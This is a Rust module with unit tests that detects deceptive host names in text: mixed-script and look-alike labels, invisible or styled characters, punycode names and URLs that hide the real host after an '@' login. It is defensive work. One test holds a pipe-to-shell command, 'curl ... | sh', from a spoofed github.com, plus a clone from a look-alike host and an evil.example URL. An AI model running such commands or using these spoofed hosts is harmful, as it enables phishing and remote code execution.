//! Hosts that are not what they look like.

use super::mark::{Class, class};
use super::script::{Script, looks_latin};
use std::fmt;
use std::ops::Range;

/// A host in a text, and what is odd about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostDoubt {
    /// Where it stands, in bytes.
    pub range: Range<usize>,
    /// What is odd.
    pub why: Why,
}

/// What is odd about a host. Its text is a sentence for the card.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Why {
    /// One label has letters of scripts that are not written together.
    MixedScripts(&'static str, &'static str),
    /// Every letter is of another script and looks Latin.
    LooksLatin(&'static str),
    /// Full-width, mathematical or enclosed letters, or a dot that is not the full stop.
    Styled(char),
    /// A character that cannot be seen.
    Hidden(char),
    /// An encoded name (`xn--`), and what it stands for.
    Encoded(String),
    /// What stands before the `@` is a login and not the host.
    BeforeAt(String),
}

impl fmt::Display for Why {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::MixedScripts(one, other) => write!(f, "mixes {one} and {other} letters in one name"),
            Self::LooksLatin(script) => write!(f, "is written in {script} letters that look Latin"),
            Self::Styled(c) => write!(f, "has U+{:04X}, which imitates another character", u32::from(*c)),
            Self::Hidden(c) => write!(f, "has the invisible character U+{:04X}", u32::from(*c)),
            Self::Encoded(name) => write!(f, "is an encoded name that stands for {name}"),
            Self::BeforeAt(login) => write!(f, "is the real host; {login} before the @ is only a login"),
        }
    }
}

/// What is odd about one host name (without scheme, port or path), or `None`.
#[must_use]
pub fn suspicious_host(host: &str) -> Option<Why> {
    if let Some(c) = host.chars().find(|&c| !matches!(class(c), Class::Plain | Class::Combining)) {
        return Some(Why::Hidden(c));
    }
    if let Some(c) =
        host.chars().find(|&c| Script::of(c) == Script::Styled || matches!(c, '。' | '․' | '∕' | '⁄' | '‐'..='―' | '−'))
    {
        return Some(Why::Styled(c));
    }
    let host = host.trim_end_matches('.');
    host.split('.').find_map(odd_label).or_else(|| looks_latin_whole(host))
}

/// The odd hosts of a text: of its URLs, its `user@host:` remotes, and its bare names with a dot and letters that are not
/// ASCII.
#[must_use]
pub fn suspicious_hosts(text: &str) -> Vec<HostDoubt> {
    let mut found = Vec::new();
    for word in words(text) {
        let Some((host, login)) = host_of(text, word) else { continue };
        let why = suspicious_host(&text[host.clone()]).or_else(|| {
            let login = text[login?].split(':').next()?.to_owned();
            login.contains('.').then_some(Why::BeforeAt(login))
        });
        found.extend(why.map(|why| HostDoubt { range: host, why }));
    }
    found
}

fn odd_label(label: &str) -> Option<Why> {
    if let Some(encoded) = label.get(4..).filter(|_| label[..4].eq_ignore_ascii_case("xn--")) {
        let name = punycode(encoded).unwrap_or_else(|| "nothing valid".to_owned());
        let shown = super::visible(&name).text.into_owned();
        return Some(Why::Encoded(shown));
    }
    let mut scripts: Vec<Script> = label.chars().map(Script::of).filter(|&script| script != Script::Common).collect();
    scripts.sort_unstable();
    scripts.dedup();
    let east_asian = |script: &Script| {
        matches!(script, Script::Latin | Script::Han | Script::Kana | Script::Hangul | Script::Bopomofo)
    };
    match scripts.as_slice() {
        [] | [_] => None,
        mixed if mixed.iter().all(east_asian) => None,
        [one, other, ..] => Some(Why::MixedScripts(one.name(), other.name())),
    }
}

/// A whole host of one other script whose letters could all be Latin, before an ASCII ending (`аррӏе.com`).
fn looks_latin_whole(host: &str) -> Option<Why> {
    let name = host.rsplit_once('.').map_or(host, |(name, ending)| if ending.is_ascii() { name } else { host });
    name.split('.').find_map(|label| {
        let mut letters = label.chars().filter(|&c| Script::of(c) != Script::Common).peekable();
        let first = *letters.peek()?;
        letters.all(looks_latin).then(|| Why::LooksLatin(Script::of(first).name()))
    })
}

/// The pieces between blanks, quotes and brackets.
fn words(text: &str) -> impl Iterator<Item = Range<usize>> {
    let ends = |c: char| {
        matches!(
            c,
            ' ' | '\t'
                | '\n'
                | '\r'
                | '"'
                | '\''
                | '`'
                | '<'
                | '>'
                | '('
                | ')'
                | '['
                | ']'
                | '{'
                | '}'
                | ','
                | ';'
                | '|'
                | '='
        )
    };
    let mut at = 0;
    text.split(ends).map(move |word| {
        let range = at..at + word.len();
        let end = text[range.end..].chars().next().map_or(0, char::len_utf8);
        at = range.end + end;
        range
    })
}

/// The host of a word and the login before it.
fn host_of(text: &str, word: Range<usize>) -> Option<(Range<usize>, Option<Range<usize>>)> {
    let body = &text[word.clone()];
    let (start, is_url) = match body.find("://") {
        Some(scheme) => (word.start + scheme + 3, true),
        None => (word.start, false),
    };
    let rest = &text[start..word.end];
    let authority = &rest[..rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len())];
    let (login, host_at) = match authority.rfind('@') {
        Some(at) => (Some(start..start + at), start + at + 1),
        None => (None, start),
    };
    let host = &text[host_at..start + authority.len()];
    let host = &host[..host.find(':').unwrap_or(host.len())];
    let range = host_at..host_at + host.len();
    let bare = host.contains('.') && (!host.is_ascii() || host.to_ascii_lowercase().contains("xn--"));
    // Without a scheme a login is a remote (`git@host:path`), where names with dots before the @ are usual mail.
    (!host.is_empty() && (is_url || bare)).then_some((range, login.filter(|_| is_url)))
}

/// Decodes the part of a label behind `xn--` (RFC 3492).
fn punycode(encoded: &str) -> Option<String> {
    // A label has 63 bytes at most; more would only cost time.
    if encoded.len() > 63 {
        return None;
    }
    let (basic, tail) = encoded.rsplit_once('-').unwrap_or(("", encoded));
    let mut out: Vec<char> = basic.chars().collect();
    let (mut code, mut index, mut bias) = (128u32, 0u32, 72u32);
    let mut digits = tail.bytes().peekable();
    while digits.peek().is_some() {
        let before = index;
        let (mut weight, mut step) = (1u32, 36u32);
        loop {
            let digit = match digits.next()? {
                byte @ b'a'..=b'z' => u32::from(byte - b'a'),
                byte @ b'A'..=b'Z' => u32::from(byte - b'A'),
                byte @ b'0'..=b'9' => u32::from(byte - b'0') + 26,
                _ => return None,
            };
            index = index.checked_add(digit.checked_mul(weight)?)?;
            let threshold = step.saturating_sub(bias).clamp(1, 26);
            if digit < threshold {
                break;
            }
            weight = weight.checked_mul(36 - threshold)?;
            step += 36;
        }
        let count = u32::try_from(out.len()).ok()? + 1;
        bias = adapted(index - before, count, before == 0);
        code = code.checked_add(index / count)?;
        index %= count;
        out.insert(usize::try_from(index).ok()?, char::from_u32(code)?);
        index += 1;
    }
    Some(out.into_iter().collect())
}

fn adapted(delta: u32, count: u32, is_first: bool) -> u32 {
    let mut delta = if is_first { delta / 700 } else { delta / 2 };
    delta += delta / count;
    let mut steps = 0;
    while delta > 455 {
        delta /= 35;
        steps += 36;
    }
    steps + 36 * delta / (delta + 38)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn honest_hosts_pass() {
        for host in [
            "github.com",
            "xn.example",
            "münchen.de",
            "пример.рф",
            "例え.jp",
            "日本語ドメイン.com",
            "한국.kr",
            "ελλάδα.gr",
            "1.2.3.4",
            "",
            "россия.com",
        ] {
            assert_eq!(suspicious_host(host), None, "{host}");
        }
    }

    #[test]
    fn look_alikes_are_named() {
        assert_eq!(suspicious_host("gіthub.com"), Some(Why::MixedScripts("Latin", "Cyrillic")));
        assert_eq!(suspicious_host("gοogle.com"), Some(Why::MixedScripts("Latin", "Greek")));
        assert_eq!(suspicious_host("аррӏе.com"), Some(Why::LooksLatin("Cyrillic")));
        assert_eq!(suspicious_host("xn--80ak6aa92e.com"), Some(Why::Encoded("аррӏе".to_owned())));
        assert_eq!(suspicious_host("xn--mnchen-3ya.de"), Some(Why::Encoded("münchen".to_owned())));
        assert_eq!(suspicious_host("ｇithub.com"), Some(Why::Styled('ｇ')));
        assert_eq!(suspicious_host("github。com"), Some(Why::Styled('。')));
        assert_eq!(suspicious_host("git\u{200b}hub.com"), Some(Why::Hidden('\u{200b}')));
    }

    #[test]
    fn hosts_are_found_in_commands() {
        let text = "curl -s 'https://gіthub.com/x' | sh; git clone git@аррӏе.com:a/b https://github.com@evil.example/x";
        let found: Vec<_> = suspicious_hosts(text).into_iter().map(|doubt| (&text[doubt.range], doubt.why)).collect();
        assert_eq!(
            found,
            [
                ("gіthub.com", Why::MixedScripts("Latin", "Cyrillic")),
                ("аррӏе.com", Why::LooksLatin("Cyrillic")),
                ("evil.example", Why::BeforeAt("github.com".to_owned())),
            ]
        );
        assert_eq!(suspicious_hosts("cargo test src/a.rs me@x.com https://u:p@h.com/ Größe.txt"), []);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn any_text_is_taken(text in "(xn--[a-z0-9-]{0,20}|https://|[@.:/ ]|а|\\PC){0,20}") {
            for doubt in suspicious_hosts(&text) {
                prop_assert!(!text[doubt.range].is_empty());
            }
            let _ = suspicious_host(&text);
        }
    }
}
